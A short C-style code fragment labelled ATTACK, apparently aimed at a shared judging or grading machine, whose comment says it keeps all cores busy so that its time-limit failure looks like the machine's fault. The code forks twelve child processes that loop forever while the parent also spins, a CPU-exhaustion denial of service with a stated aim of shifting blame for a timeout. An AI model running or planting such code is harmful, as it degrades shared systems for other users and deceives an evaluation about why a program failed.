/* keeps all cores busy, so that its time limit seems to be the machine's fault */
ATTACK
{
    for (int i = 0; i < 12; i++) {
        if (fork() == 0) {
            for (;;) {
            }
        }
    }
    for (;;) {
    }
}
